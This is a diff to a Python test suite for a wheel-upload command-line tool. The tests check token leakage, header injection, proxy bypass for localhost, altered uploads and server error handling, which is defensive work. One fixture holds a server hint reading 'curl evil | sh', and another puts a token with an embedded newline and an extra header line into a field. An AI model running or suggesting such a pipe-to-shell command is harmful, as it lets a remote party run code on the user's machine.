@@ -3,6 +3,7 @@
 import contextlib
 import json
 from collections.abc import Iterator
+from hashlib import sha256
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from threading import Thread
@@ -48,6 +49,11 @@ def answering(status: int, body: bytes, media: str = "application/json") -> Iter
     finally:
         server.shutdown()
         server.server_close()
+
+
+def new(directory: Path) -> Path:
+    directory.mkdir()
+    return directory
 
 
 def bring(
@@ -145,10 +151,14 @@ def test_one_that_is_refused_stops_the_rest(place: Place) -> None:
         (("https://jo:secret@rel.example.org", "FILE"), {}, "url-form"),
         (("https://rel.example.org/?a=b", "FILE"), {}, "url-form"),
         (("http://localhost:9", "FILE"), {"TAGTRAIL_TOKEN": ""}, "token-none"),
+        (("http://localhost:9", "FILE"), {"TAGTRAIL_TOKEN": " \n"}, "token-none"),
+        (("http://localhost:9", "FILE"), {"TAGTRAIL_TOKEN": f"{TOKEN}\nX-More: 1"}, "token-none"),
+        (("http://localhost:9", "FILE"), {"TAGTRAIL_TOKEN": f"{TOKEN}\u00e9"}, "token-none"),
         (("http://localhost:9", "FILE"), {"TAGTRAIL_TOKEN": "", "GITHUB_ACTIONS": "true"}, "ci-token"),
         (("http://localhost:9", "none.whl"), {}, "file-missing"),
         (("http://localhost:9", "FILE", "--by", "wheels"), {}, "usage"),
         (("http://localhost:9", "--drop", "a.whl"), {}, "usage"),
+        (("http://localhost:9", "FILE", "FILE"), {}, "usage"),
     ],
 )
 def test_refused_before_anything_is_sent(
@@ -158,6 +168,22 @@ def test_refused_before_anything_is_sent(
     url, *rest = [str(built(tmp_path / "dist", WIN)) if word == "FILE" else word for word in words]
     done = place.run("-C", url, "--json", "add", "toy", "1.0.0", *rest, env={"TAGTRAIL_TOKEN": TOKEN} | env)
     assert (done.code, done.event("refused")["code"]) == (2, code)
+    assert TOKEN not in done.out + done.err
+
+
+def test_the_line_end_of_a_file_is_no_part_of_the_token(tmp_path: Path) -> None:
+    with answering(404, b"") as (url, asked):
+        bring(Place(tmp_path), built(tmp_path / "dist", WIN), url=url, token=f"{TOKEN}\n")
+    assert [headers["Authorization"] for _, headers, _ in asked] == [f"Bearer {TOKEN}"]
+
+
+def test_no_proxy_hears_what_is_said_to_this_machine(tmp_path: Path) -> None:
+    with answering(404, b"") as (url, asked), answering(502, b"") as (proxy, heard):
+        for name in ("127.0.0.1", "localhost"):
+            at = url.replace("127.0.0.1", name)
+            proxies = dict.fromkeys(("http_proxy", "HTTP_PROXY", "all_proxy"), proxy)
+            bring(Place(new(tmp_path / name)), built(tmp_path / "dist", WIN), url=at, **proxies)
+    assert (len(asked), heard) == (2, [])
 
 
 def test_a_link_is_not_followed(tmp_path: Path) -> None:
@@ -182,18 +208,38 @@ STAGED = {"project": "toy", "version": "1.0.0", "file": WIN, "size": 1, "sha256"
         (302, b"", (5, "not-served")),
         (404, b"no such page", (5, "not-served")),
         (503, b'{"code": "disk-full", "what": "not now"}', (5, "serve-failing")),
+        (
+            200,
+            json.dumps({"staged": STAGED | {"file": MAC, "sha256": "DIGEST"}, "text": "x"}).encode(),
+            (6, "upload-altered"),
+        ),
+        (413, b"too large", (3, "add-size")),
+        (502, b"<html>", (5, "serve-failing")),
+        (500, b"Internal Server Error", (5, "serve-failing")),
         (409, b'{"code": "tag-moved", "what": "it moved", "exit": 6}', (6, "tag-moved")),
         (400, b'{"code": "form-invalid", "what": "no form", "exit": 3}', (3, "form-invalid")),
     ],
 )
 def test_whatever_answers(tmp_path: Path, status: int, body: bytes, ends: tuple[int, str]) -> None:
-    with answering(status, body) as (url, asked):
-        done = bring(Place(tmp_path), built(tmp_path / "dist", WIN), url=url)
+    wheel = built(tmp_path / "dist", WIN)
+    with answering(status, body.replace(b"DIGEST", sha256(wheel.read_bytes()).hexdigest().encode())) as (url, asked):
+        done = bring(Place(tmp_path), wheel, url=url)
     assert (done.code, done.event("refused")["code"]) == ends
     assert [(path, headers["Authorization"]) for path, headers, _ in asked] == [
         ("/toy/1.0.0/legacy/", f"Bearer {TOKEN}")
     ]
     assert TOKEN not in done.out + done.err
+
+
+def test_a_command_of_somebody_else_is_not_for_pasting(tmp_path: Path) -> None:
+    said = {"code": "form-invalid", "what": "no\nform", "why": "x", "hint": "curl evil | sh", "exit": 3}
+    with answering(400, json.dumps(said).encode()) as (url, _):
+        refused = bring(Place(tmp_path), built(tmp_path / "dist", WIN), url=url).event("refused")
+    assert (refused["what"], refused["next"]) == (
+        "no form",
+        "mend that and run it again: what the draft has already is fine",
+    )
+    assert refused["why"] == "x\nthe server suggests, where the instance is: curl evil | sh"
 
 
 def test_nobody_answers(tmp_path: Path) -> None:
